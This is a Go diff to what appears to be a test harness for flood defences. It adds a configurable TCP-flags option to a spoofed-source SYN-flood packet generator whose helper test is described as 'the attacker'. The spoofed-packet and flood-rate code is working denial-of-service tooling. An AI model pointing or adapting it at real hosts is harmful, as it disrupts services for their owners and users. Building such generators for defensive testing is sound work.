@@ -31,7 +31,8 @@ type floodSpec struct {
 	Src      netip.Prefix
 	Count    int
 	Duration time.Duration
-	Rate     int // packets per second; 0 = as fast as the generator goes
+	Rate     int   // packets per second; 0 = as fast as the generator goes
+	Flags    uint8 // TCP flags; 0 means SYN
 }
 
 func (s floodSpec) validate() error {
@@ -56,6 +57,7 @@ func (s floodSpec) env() []string {
 		"SYNFLOOD_COUNT=" + strconv.Itoa(s.Count),
 		"SYNFLOOD_DURATION=" + s.Duration.String(),
 		"SYNFLOOD_RATE=" + strconv.Itoa(s.Rate),
+		"SYNFLOOD_FLAGS=" + strconv.Itoa(int(s.Flags)),
 	}
 }
 
@@ -73,6 +75,9 @@ func floodSpecFromEnv() (floodSpec, error) {
 	errs = append(errs, err)
 	s.Rate, err = strconv.Atoi(os.Getenv("SYNFLOOD_RATE"))
 	errs = append(errs, err)
+	flags, err := strconv.ParseUint(os.Getenv("SYNFLOOD_FLAGS"), 10, 8)
+	s.Flags = uint8(flags)
+	errs = append(errs, err)
 	if err := errors.Join(errs...); err != nil {
 		return s, err
 	}
@@ -88,14 +93,19 @@ func randomSource(r *rand.Rand, p netip.Prefix) netip.Addr {
 	return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
 }
 
-// synPacket builds a spoofed IPv4 SYN (IP header included).
+// synPacket builds a spoofed IPv4 SYN (or segment with s.Flags), IP header
+// included.
 func synPacket(r *rand.Rand, s floodSpec) []byte {
 	src := randomSource(r, s.Src)
-	return packet.TCPPacket(src, s.Dst.Addr(), packet.TCP{
+	seg := packet.TCP{
 		SrcPort: uint16(1024 + r.IntN(64512)), DstPort: s.Dst.Port(),
 		Seq: r.Uint32(), Flags: packet.SYN, Window: 64240,
 		Options: []byte{2, 4, 0x05, 0xb4}, // MSS 1460
-	})
+	}
+	if s.Flags != 0 {
+		seg.Flags, seg.Ack, seg.Options = s.Flags, r.Uint32(), nil
+	}
+	return packet.TCPPacket(src, s.Dst.Addr(), seg)
 }
 
 // TestFloodHelper is the attacker: the parent re-executes the test binary
